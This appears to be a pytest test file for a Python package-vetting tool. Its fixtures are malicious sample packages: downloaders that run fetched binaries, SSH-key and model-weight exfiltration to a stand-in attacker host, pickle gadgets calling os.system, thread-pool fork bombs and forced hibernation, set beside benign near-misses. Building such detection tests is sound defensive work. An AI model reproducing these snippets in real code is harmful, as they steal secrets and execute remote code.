"""The twenty-third probe (ADR 0126): what ADRs 0119, 0122 and 0123 left undetected. A
method reached by ``getattr`` of an object that is not a local name, or kept in a name
first (``w = f.write; w(x)``); a pool mapping itself over a list it builds first, or queueing
a partner that calls it back; the machine put to sleep by Windows' own calls; a module that
only a chain of setup.py's build helpers reaches (held); and a gadget pickle kept in the
source and loaded.

Each sample is inert (vetting only reads files). The near-misses are what loggers, caches,
downloaders, crawlers, thread pools, build helpers and power tools do."""

from __future__ import annotations

import ast
import base64
import collections
import pickle
import zlib

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.selfqueued import local_items, queued, queues_itself
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package

URL = "https://sink.attacker.invalid/c"
W = "/models/llama/model.safetensors"
SSH_KEY = "os.path.expanduser('~/.ssh/id_rsa')"
# A download from a bare address, written to a path that is then run: a dropper when the
# write is seen (``tests/unit/imports/packages/test_vet_mutations.py``).
FETCH = "import os, requests\ndef fetch():\n    r = requests.get('https://203.0.113.5/s.bin')\n"
RUN = "    os.system('/tmp/s.bin')\n"
POOL = "from concurrent.futures import ThreadPoolExecutor\nex = ThreadPoolExecutor(10000)\n"


def gadget(module: str, name: str) -> bytes:
    """A protocol 2 pickle calling ``module.name('id')`` when loaded, written by hand
    (inert: it is only read)."""
    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + b"X\x02\x00\x00\x00id\x85R."


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


SYSTEM = gadget("os", "system")
POPEN = gadget("subprocess", "Popen")
DATA = pickle.dumps({"a": [1, 2, 3]}, protocol=2)
ORDERED = pickle.dumps(collections.OrderedDict(a=1), protocol=2)

DENIED: dict[str, dict[str, str]] = {
    # 1. The method kept in a name, or reached by ``getattr`` of an expression: still the
    # write that drops the file run next.
    "download-written-by-a-write-kept-from-getattr-then-run": init(
        FETCH + "    with open('/tmp/s.bin', 'wb') as f:\n"
        "        w = getattr(f, 'write')\n        w(r.content)\n" + RUN
    ),
    "download-written-by-a-write-kept-in-a-name-then-run": init(
        FETCH + "    with open('/tmp/s.bin', 'wb') as f:\n"
        "        w = f.write\n        w(r.content)\n" + RUN
    ),
    "download-streamed-into-a-kept-write-then-run": init(
        FETCH + "    with open('/tmp/s.bin', 'wb') as f:\n"
        "        put = getattr(f, 'write')\n"
        "        for chunk in r.iter_content(8192):\n            put(chunk)\n" + RUN
    ),
    "download-written-by-getattr-of-an-open-call-then-run": init(
        FETCH + "    getattr(open('/tmp/s.bin', 'wb'), 'write')(r.content)\n" + RUN
    ),
    "download-written-by-getattr-of-a-path-object-then-run": init(
        "import os, pathlib, requests\ndef fetch():\n"
        "    r = requests.get('https://203.0.113.5/s.bin')\n"
        "    getattr(pathlib.Path('/tmp/s.bin'), 'write_bytes')(r.content)\n" + RUN
    ),
    "ssh-key-appended-by-a-kept-append-then-posted-on-import": init(
        "import os, requests\nparts = []\nadd = parts.append\n"
        f"add(open({SSH_KEY}).read())\nrequests.post('{URL}', data=''.join(parts))\n"
    ),
    # 2. A pool mapping itself over a list built first, or queueing a partner that calls it
    # back, in a module naming nothing else the prefilter looks for.
    "executor-map-of-itself-over-a-list-built-first-on-import": init(
        POOL + "def grow(_):\n    items = [0, 0]\n    ex.map(grow, items)\ngrow(0)\n"
    ),
    "executor-map-of-itself-over-a-repeated-list-on-import": init(
        POOL + "def grow(_):\n    items = [0] * 4\n    ex.map(grow, items)\ngrow(0)\n"
    ),
    "executor-map-of-itself-over-a-listed-range-on-import": init(
        POOL + "def grow(_):\n    jobs = list(range(3))\n    ex.map(grow, jobs)\ngrow(0)\n"
    ),
    "executor-map-of-a-partner-calling-back-on-import": init(
        POOL + "def a(_):\n    ex.map(b, [0, 0])\ndef b(_):\n    a(0)\na(0)\n"
    ),
    "executor-submits-of-a-partner-calling-back-on-import": init(
        POOL + "def a():\n    ex.submit(b)\n    ex.submit(b)\ndef b():\n    a()\na()\n"
    ),
    # 6. A pickle kept in the source (base64, zlib, a bytes literal) that calls a gadget,
    # loaded when called, or wrapped in a stream first: denied as the member it could be.
    "base64-pickle-calling-system-loaded-when-called": init(
        f"import base64, pickle\nB = '{b64(SYSTEM)}'\n"
        "def settings():\n    return pickle.loads(base64.b64decode(B))\n"
    ),
    "zlib-pickle-calling-popen-loaded-when-called": init(
        f"import base64, pickle, zlib\nB = '{b64(zlib.compress(POPEN))}'\n"
        "def settings():\n    return pickle.loads(zlib.decompress(base64.b64decode(B)))\n"
    ),
    "bytes-literal-pickle-loaded-by-c-pickle-when-called": init(
        f"import _pickle\nB = {SYSTEM!r}\ndef settings():\n    return _pickle.loads(B)\n"
    ),
    "base64-pickle-loaded-from-a-stream-on-import": init(
        f"import base64, io, pickle\nB = '{b64(SYSTEM)}'\n"
        "SETTINGS = pickle.load(io.BytesIO(base64.b64decode(B)))\n"
    ),
    "base64-pickle-loaded-by-an-unpickler-on-import": init(
        f"import base64, pickle\nfrom io import BytesIO\nB = '{b64(POPEN)}'\n"
        "SETTINGS = pickle.Unpickler(BytesIO(base64.b64decode(B))).load()\n"
    ),
    "base64-pickle-loaded-by-joblib-from-a-stream-when-called": init(
        f"import base64, io, joblib\nB = '{b64(SYSTEM)}'\n"
        "def model():\n    return joblib.load(io.BytesIO(base64.b64decode(B)))\n"
    ),
    # 3. A Ray task taken from a table, fed the weights, on a written cluster.
    "weights-to-a-ray-task-taken-from-a-table-on-import": init(
        "import ray\nray.init(address='ray://203.0.113.5:10001')\n"
        "@ray.remote\ndef keep(b):\n    return len(b)\nTASKS = {'keep': keep}\n"
        f"TASKS['keep'].remote(open('{W}', 'rb').read())\n"
    ),
    # 4. The machine put to sleep (hibernated) by Windows' own calls or its command.
    "set-suspend-state-through-windll-on-import": init(
        "import ctypes\nctypes.windll.powrprof.SetSuspendState(1, 1, 0)\n"
    ),
    "set-suspend-state-through-a-windll-of-powrprof-on-import": init(
        "from ctypes import WinDLL\nWinDLL('PowrProf').SetSuspendState(False, True, False)\n"
    ),
    "set-system-power-state-through-pywin32-on-import": init(
        "import win32api\nwin32api.SetSystemPowerState(True, True)\n"
    ),
    "set-suspend-state-through-getattr-on-install": {
        "setup.py": "import ctypes\ngetattr(ctypes.windll.powrprof, 'SetSuspendState')(0, 1, 0)\n"
        "from setuptools import setup\nsetup(name='evpkg', version='1.0')\n",
        "evpkg/__init__.py": "",
    },
    "systemctl-hibernate-on-import": init(
        "import subprocess\nsubprocess.run(['systemctl', 'hibernate'])\n"
    ),
}

# 5. setup.py importing a build helper that imports another root-level module.
SETUP_WITH_HELPER = (
    "import os, sys\nsys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))\n"
    "import _build\nfrom setuptools import setup\nsetup(name='evpkg', version='1.0')\n"
)
HOST_SENT = (
    "import socket, urllib.request\ndef run():\n"
    "    urllib.request.urlopen('https://sink.attacker.invalid/c?h=' + socket.gethostname())\n"
)


def built(*chain: tuple[str, str]) -> dict[str, str]:
    """An sdist whose setup.py imports ``_build``, with the root-level modules ``chain``."""
    return {"setup.py": SETUP_WITH_HELPER, "evpkg/__init__.py": "", **dict(chain)}


HELD: dict[str, dict[str, str]] = {
    # The build-helper chain samples left with buildchain.py (coordinator's review, ADR 0126:
    # it held a popular package; setup.py -> helper -> helper is again not detected).
    "set-suspend-state-when-called": init(
        "import ctypes\ndef sleep_now():\n    ctypes.windll.powrprof.SetSuspendState(0, 1, 0)\n"
    ),
    "systemctl-suspend-when-called": init(
        "import subprocess\ndef sleep_now():\n    subprocess.run(['systemctl', 'suspend'])\n"
    ),
}

ALLOWED: dict[str, dict[str, str]] = {
    # 1. Kept methods and getattr of expressions doing what programs do.
    "log-line-by-a-write-kept-from-getattr-on-import": init(
        "import os, tempfile\n"
        "f = open(os.path.join(tempfile.gettempdir(), 'evpkg.log'), 'a')\n"
        "w = getattr(f, 'write')\nw('started\\n')\n"
    ),
    "stdout-write-kept-in-a-name-on-import": init(
        "import sys\nwrite = sys.stdout.write\nwrite('evpkg ready\\n')\n"
    ),
    "settings-written-by-getattr-of-an-open-call-on-import": init(
        "import json, os\n"
        "getattr(open(os.path.join(os.path.dirname(__file__), 'cfg.json'), 'w'), 'write')"
        "(json.dumps({'a': 1}))\n"
    ),
    "download-to-the-callers-path-by-a-kept-write": init(
        "import requests\ndef fetch(url, path):\n    r = requests.get(url)\n"
        "    with open(path, 'wb') as f:\n        w = f.write\n        w(r.content)\n"
        "    return path\n"
    ),
    "data-download-cached-by-a-kept-write": init(
        "import requests\ndef fetch():\n    r = requests.get('https://example.org/data.json')\n"
        "    with open('/tmp/data.json', 'wb') as f:\n"
        "        w = getattr(f, 'write')\n        w(r.content)\n"
    ),
    "json-of-a-response-by-getattr": init(
        "import requests\ndef latest():\n"
        "    return getattr(requests.get('https://pypi.org/pypi/evpkg/json'), 'json')()\n"
    ),
    "working-folder-kept-by-an-append-on-import": init(
        "import os\nparts = []\nadd = parts.append\nadd(os.getcwd())\nPATHS = parts\n"
    ),
    "getcwd-by-getattr-of-an-imported-module-on-import": init(
        "import importlib\nHERE = getattr(importlib.import_module('os'), 'getcwd')()\n"
    ),
    "a-kept-write-rebound-to-print-before-the-call": init(
        "import requests\ndef fetch():\n    r = requests.get('https://203.0.113.5/s.bin')\n"
        "    with open('/tmp/s.log', 'w') as f:\n        w = f.write\n        w = print\n"
        "        w(len(r.content))\n"
    ),
    # 2. Pools that map workers, crawl, or call back only sometimes.
    "crawler-mapping-itself-over-the-links-it-finds": init(
        POOL + "import re\n"
        "def crawl(page):\n    links = re.findall('href=\"(.*?)\"', page)\n"
        "    ex.map(crawl, links)\n"
    ),
    "function-building-a-list-and-mapping-a-worker-on-import": init(
        POOL + "def work(n):\n    return n * n\n"
        "def run(_=None):\n    items = [1, 2, 3]\n    return list(ex.map(work, items))\nrun()\n"
    ),
    "list-rebound-in-a-loop-before-the-map": init(
        POOL + "def grow(_):\n    items = [0, 0]\n    for items in ([],):\n        pass\n"
        "    ex.map(grow, items)\n"
    ),
    "partner-calling-back-only-under-a-condition-on-import": init(
        POOL + "def a(depth):\n    ex.map(b, [depth + 1, depth + 1])\n"
        "def b(depth):\n    if depth < 3:\n        a(depth)\na(0)\n"
    ),
    "partner-that-never-calls-back-on-import": init(
        POOL + "def a(_):\n    ex.map(b, [0, 0])\ndef b(n):\n    print(n)\na(0)\n"
    ),
    # 6. Pickled data kept in the source and loaded when called, or from a stream.
    "base64-pickle-of-data-loaded-when-called": init(
        f"import base64, pickle\nB = '{b64(DATA)}'\n"
        "def settings():\n    return pickle.loads(base64.b64decode(B))\n"
    ),
    "base64-pickle-of-data-loaded-from-a-stream-on-import": init(
        f"import base64, io, pickle\nB = '{b64(DATA)}'\n"
        "SETTINGS = pickle.load(io.BytesIO(base64.b64decode(B)))\n"
    ),
    "pickle-of-an-ordered-dict-loaded-when-called": init(
        "import base64, collections, pickle\n"
        f"B = '{b64(ORDERED)}'\n"
        "def settings():\n    return pickle.loads(base64.b64decode(B))\n"
    ),
    "stream-of-a-gadget-pickle-never-loaded": init(
        f"import base64, io\nB = '{b64(SYSTEM)}'\nRAW = io.BytesIO(base64.b64decode(B)).read()\n"
    ),
    # 5. Build helpers chained as real builds chain them.
    "cmake-run-by-a-module-a-build-helper-imports": built(
        ("_build.py", "import _compile\n_compile.cmake()\n"),
        (
            "_compile.py",
            (
                "import os, subprocess\ndef cmake():\n    os.makedirs('build', exist_ok=True)\n"
                "    subprocess.check_call(['cmake', '-S', '.', '-B', 'build'])\n"
            ),
        ),
    ),
    "version-from-git-by-a-module-a-build-helper-imports": built(
        ("_build.py", "import _version\nVERSION = _version.get()\n"),
        (
            "_version.py",
            (
                "import subprocess\ndef get():\n"
                "    return subprocess.check_output(['git', 'describe', '--tags']).decode()\n"
            ),
        ),
    ),
    "compiler-flags-from-the-environment-two-build-helpers-away": built(
        ("_build.py", "import _steps\n"),
        ("_steps.py", "import _flags\nCFLAGS = _flags.get()\n"),
        (
            "_flags.py",
            (
                "import os, sysconfig\ndef get():\n    flags = os.environ.get('CFLAGS', '')\n"
                "    return flags + (sysconfig.get_config_var('CFLAGS') or '')\n"
            ),
        ),
    ),
    "host-name-sent-by-a-root-module-no-build-helper-imports": built(
        ("_build.py", "X = 1\n"), ("pre_install.py", HOST_SENT)
    ),
    # 3. Ray tasks from a table on the caller's data, and a table's plain function.
    "ray-task-from-a-table-on-the-callers-data-and-the-local-cluster": init(
        "import ray\n@ray.remote\ndef square(x):\n    return x * x\nTASKS = {'square': square}\n"
        "def run(xs):\n    ray.init()\n"
        "    return ray.get([TASKS['square'].remote(x) for x in xs])\n"
    ),
    "a-tables-plain-function-with-a-remote-attribute": init(
        "def keep(b):\n    return len(b)\nkeep.remote = keep\nTASKS = {'keep': keep}\n"
        f"SIZE = TASKS['keep'].remote(open('{W}', 'rb').read())\n"
    ),
    # 4. Power calls that keep the machine awake or are only named.
    "keep-awake-while-training-on-import": init(
        "import ctypes\nctypes.windll.kernel32.SetThreadExecutionState(0x80000003)\n"
    ),
    "suspend-api-names-in-a-table": init(
        "POWER_APIS = ['SetSuspendState', 'SetSystemPowerState', 'SetThreadExecutionState']\n"
    ),
    "systemctl-status-when-called": init(
        "import subprocess\ndef status():\n"
        "    subprocess.run(['systemctl', 'status', 'sleep.target'])\n"
    ),
}

# Verdicts already right before this probe, kept so they stay so: a getattr of a module
# reached through a call keeps its string's mark; a download not run is cached data.
KEPT: dict[str, tuple[dict[str, str], Outcome]] = {
    "system-by-getattr-of-an-imported-module-on-import": (
        init("import importlib\ngetattr(importlib.import_module('os'), 'system')('id')\n"),
        Outcome.DENY,
    ),
    "system-by-getattr-of-dunder-import-on-import": (
        init("getattr(__import__('os'), 'system')('id')\n"),
        Outcome.DENY,
    ),
    "ssh-key-sent-by-getattr-of-a-socket-attribute": (
        init(
            "import os, socket\nclass C:\n    def __init__(self):\n"
            "        self.sock = socket.create_connection(('203.0.113.5', 443))\n"
            f"    def go(self):\n        getattr(self.sock, 'send')(open({SSH_KEY}, 'rb').read())\n"
            "C().go()\n"
        ),
        Outcome.DENY,
    ),
    # 3. Already denied before this probe (ADR 0122 listed them as not detected): a Ray
    # task handed through a parameter or a list, a generator with parameters yielding a
    # secret or weights into a post.
    "weights-to-a-ray-task-handed-as-a-parameter-on-import": (
        init(
            f"import ray\nray.init(address='ray://203.0.113.5:10001')\n"
            "@ray.remote\ndef keep(b):\n    return len(b)\n"
            f"def run(task):\n    return task.remote(open('{W}', 'rb').read())\nrun(keep)\n"
        ),
        Outcome.DENY,
    ),
    "weights-to-a-ray-task-taken-from-a-list-on-import": (
        init(
            f"import ray\nray.init(address='ray://203.0.113.5:10001')\n"
            "@ray.remote\ndef keep(b):\n    return len(b)\n"
            f"for t in [keep]:\n    t.remote(open('{W}', 'rb').read())\n"
        ),
        Outcome.DENY,
    ),
    "ssh-key-yielded-by-a-generator-given-its-path-into-a-post-on-import": (
        init(
            "import os, requests\ndef chunks(path):\n"
            "    with open(path, 'rb') as f:\n        yield f.read()\n"
            f"requests.post('{URL}', data=chunks({SSH_KEY}))\n"
        ),
        Outcome.DENY,
    ),
    "weights-yielded-in-chunks-by-a-generator-given-path-and-size-on-import": (
        init(
            "import requests\ndef chunks(path, n):\n    with open(path, 'rb') as f:\n"
            "        while True:\n            b = f.read(n)\n            if not b:\n"
            "                break\n            yield b\n"
            f"requests.post('{URL}', data=chunks('{W}', 1 << 20))\n"
        ),
        Outcome.DENY,
    ),
    "data-download-cached-by-a-plain-write": (
        init(
            "import requests\ndef fetch():\n"
            "    r = requests.get('https://example.org/data.json')\n"
            "    with open('/tmp/data.json', 'wb') as f:\n        f.write(r.content)\n"
        ),
        Outcome.ALLOW,
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_verdict(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected


@pytest.mark.parametrize(("files", "expected"), list(KEPT.values()), ids=list(KEPT))
def test_kept(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("items = [0, 0]\nex.map(grow, items)", ("grow", 2)),
        ("items = [0] * 2\nex.map(grow, items)", ("grow", 2)),
        ("items = tuple(range(2))\nex.map(grow, items)", ("grow", 2)),
        ("items = [0]\nex.map(grow, items)", ("grow", 1)),
        ("items = [0, 0]\nitems = []\nex.map(grow, items)", ("grow", 1)),
        ("items = [0, 0]\nitems += [1]\nex.map(grow, items)", ("grow", 1)),
        ("items = links()\nex.map(grow, items)", ("grow", 1)),
    ],
)
def test_queued_over_a_list_built_first(body: str, expected: tuple[str, int]) -> None:
    func = ast.parse("def grow(_):\n" + "".join(f"    {line}\n" for line in body.split("\n")))
    defined = func.body[0]
    assert isinstance(defined, ast.FunctionDef)
    call = defined.body[-1]
    assert isinstance(call, ast.Expr) and isinstance(call.value, ast.Call)
    assert queued(call.value, local_items(defined)) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("def a(_):\n    ex.map(b, [0, 0])\ndef b(_):\n    a(0)\n", True),
        ("def a():\n    ex.submit(b)\ndef b():\n    a()\n", True),
        ("def a(_):\n    ex.map(b, [0, 0])\ndef b(_):\n    print(0)\n", False),
        ("def a(_):\n    ex.map(b, [0, 0])\ndef b(_):\n    pass\na(0)\n", False),
    ],
)
def test_queues_a_partner(text: str, expected: bool) -> None:
    assert queues_itself(text) is expected
